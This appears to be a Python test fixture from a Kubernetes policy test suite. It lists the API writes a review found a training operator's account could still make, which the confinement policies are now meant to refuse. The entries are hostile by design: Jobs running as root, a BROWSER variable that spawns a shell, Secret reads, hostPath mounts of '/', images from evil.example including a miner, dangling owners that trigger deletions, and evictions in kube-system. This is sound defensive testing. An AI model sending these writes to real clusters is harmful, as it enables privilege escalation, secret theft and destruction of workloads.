"""What the review of the landed confinement policy found the operator's account could
still do, each as a write the policies must now refuse (and an admin may make)."""

import copy
import uuid
from collections.abc import Callable, Iterator
from typing import Any

from confinement_check import Release, entry
from confinement_corpus import Done
from confinement_writes import JSON

Write = tuple[str, str, Any]
"""(method, path, body)"""
SHELL = "/bin/sh -c 'id > /checkpoints/owned'"
GONE = [{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": str(uuid.uuid4())}]
"""An owner that does not exist: the garbage collector deletes what names it."""


def _pod(job: JSON) -> JSON:
    spec: JSON = job["spec"]["template"]["spec"]
    return spec


def _container(job: JSON) -> JSON:
    found: JSON = _pod(job)["containers"][0]
    return found


PRUNERS: dict[str, Callable[[JSON], object]] = {
    "running as root through its container's securityContext": lambda j: _container(j)[
        "securityContext"
    ].update(runAsUser=0, runAsNonRoot=False),
    "with PYTHONWARNINGS and BROWSER (prune --help runs a shell)": lambda j: _container(j).update(
        env=[
            {"name": "PYTHONWARNINGS", "value": "ignore::antigravity.x"},
            {"name": "BROWSER", "value": SHELL},
        ],
        args=["prune", "--help"],
    ),
    "reading a Secret into its environment": lambda j: _container(j).update(
        env=[{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s3-keys", "key": "secret"}}}]
    ),
    "with the PVC mounted over site-packages": lambda j: _container(j)["volumeMounts"][0].update(
        mountPath="/usr/local/lib/python3.12/site-packages"
    ),
    "on a node of the operator's choice": lambda j: _pod(j).update(nodeName="cpu-0"),
    "with a nodeSelector": lambda j: _pod(j).update(nodeSelector={"pool": "system"}),
    "tolerating every taint": lambda j: _pod(j).update(tolerations=[{"operator": "Exists"}]),
    "with seccomp Unconfined": lambda j: _pod(j)["securityContext"].update(
        seccompProfile={"type": "Unconfined"}
    ),
    "with a hostPath instead of the PVC": lambda j: _pod(j).update(
        volumes=[{"name": "checkpoints", "hostPath": {"path": "/"}}]
    ),
    "with an init container": lambda j: _pod(j).update(
        initContainers=[{"name": "i", "image": "evil.example/x:1"}]
    ),
    "of another image": lambda j: _container(j).update(image="evil.example/miner:1"),
    "kept no time once finished (ttlSecondsAfterFinished: 0)": lambda j: j["spec"].update(
        ttlSecondsAfterFinished=0
    ),
}


def _pruners(r: Release, corpus: list[Done]) -> Iterator[tuple[str, Write]]:
    """The operator's own first pruner Job, changed; and unchanged in protected places."""
    sent = next(
        d.sent
        for d in corpus
        if d.sent is not None and d.sent.path.split("?")[0].endswith("/jobs")  # ?fieldManager
    )
    for why, change in PRUNERS.items():
        job = copy.deepcopy(sent.body)
        change(job)
        yield f"a pruner {why}", ("POST", sent.path, job)
    for namespace in ("kube-system", r.namespace):
        job = copy.deepcopy(sent.body)
        job["metadata"]["namespace"] = namespace
        yield (
            f"a pruner in {namespace}",
            ("POST", f"/apis/batch/v1/namespaces/{namespace}/jobs", job),
        )


def _patches(r: Release) -> Iterator[tuple[str, Write]]:
    team = r.team
    job, pod = (
        f"/apis/batch/v1/namespaces/{team}/jobs/train",
        f"/api/v1/namespaces/{team}/pods/bare",
    )
    node = f"/api/v1/nodes/{r.world.node}"
    pvc = f"/api/v1/namespaces/{team}/persistentvolumeclaims/ckpt"
    wl = f"/apis/kueue.x-k8s.io/v1beta2/namespaces/{team}/workloads/wl"
    yield (
        "a Job kept no time once finished",
        ("PATCH", job, {"spec": {"ttlSecondsAfterFinished": 0}}),
    )
    retention = {"whenScaled": "Delete"}
    yield (
        "a StatefulSet scaled to zero deleting its volumes",
        (
            "PATCH",
            f"/apis/apps/v1/namespaces/{team}/statefulsets/statefulset",
            {"spec": {"replicas": 0, "persistentVolumeClaimRetentionPolicy": retention}},
        ),
    )
    yield (
        "a RayJob's runtimeEnvYAML",
        (
            "PATCH",
            f"/apis/ray.io/v1/namespaces/{team}/rayjobs/rj",
            {"spec": {"suspend": True, "runtimeEnvYAML": "pip: [evil]"}},
        ),
    )
    policy = {"suspend": True, "cleanPodPolicy": "All", "ttlSecondsAfterFinished": 0}
    yield (
        "a PyTorchJob's runPolicy beyond suspend",
        (
            "PATCH",
            f"/apis/kubeflow.org/v1/namespaces/{team}/pytorchjobs/pt",
            {"spec": {"runPolicy": policy}},
        ),
    )
    for kind, path in (("pod", pod), ("Job", job), ("Node", node)):
        yield (
            f"a dangling owner on a {kind}",
            ("PATCH", path, {"metadata": {"ownerReferences": GONE}}),
        )
        yield f"a finalizer on a {kind}", ("PATCH", path, {"metadata": {"finalizers": ["x.io/y"]}})
    owner = {"team.example/owner": "someone-else"}
    yield (
        "a PVC's annotation not trainwarden's",
        ("PATCH", pvc, {"metadata": {"annotations": owner}}),
    )
    yield "a PVC relabelled", ("PATCH", pvc, {"metadata": {"labels": {"team": "b"}}})
    checks = [entry(r, 0), entry(r, 1, state="Ready")]
    yield (
        "another controller's admission check decided",
        (
            "PATCH",
            f"{wl}/status",
            {"status": {"admissionChecks": checks}},
        ),
    )
    finished = {"type": "Finished", "status": "True", "reason": "x", "message": "x"}
    finished["lastTransitionTime"] = "2026-12-03T00:00:00Z"
    yield (
        "a Workload's conditions",
        ("PATCH", f"{wl}/status", {"status": {"conditions": [finished]}}),
    )
    yield "a Workload's queue", ("PATCH", wl, {"spec": {"queueName": "elsewhere"}})
    other = r.world.check.replace("budget-", "provisioning-")
    active = {"type": "Active", "status": "True", "reason": "Active", "message": "x"}
    active["lastTransitionTime"] = "2026-12-03T00:00:00Z"
    yield (
        "another controller's AdmissionCheck marked Active",
        (
            "PATCH",
            f"/apis/kueue.x-k8s.io/v1beta2/admissionchecks/{other}/status",
            {"status": {"conditions": [active]}},
        ),
    )


def _evictions(r: Release) -> Iterator[tuple[str, Write]]:
    eviction: JSON = {"apiVersion": "policy/v1", "kind": "Eviction"}
    for namespace in ("kube-system", r.namespace):
        body = {**eviction, "metadata": {"name": "victim"}}
        yield (
            f"an eviction in {namespace}",
            (
                "POST",
                f"/api/v1/namespaces/{namespace}/pods/victim/eviction",
                body,
            ),
        )
    now = {**eviction, "metadata": {"name": "bare"}, "deleteOptions": {"gracePeriodSeconds": 0}}
    yield (
        "an eviction without a grace period",
        (
            "POST",
            f"/api/v1/namespaces/{r.team}/pods/bare/eviction",
            now,
        ),
    )


def review(r: Release, corpus: list[Done]) -> dict[str, Write]:
    """Each write the review found allowed, by what it does."""
    return dict([*_pruners(r, corpus), *_patches(r), *_evictions(r)])
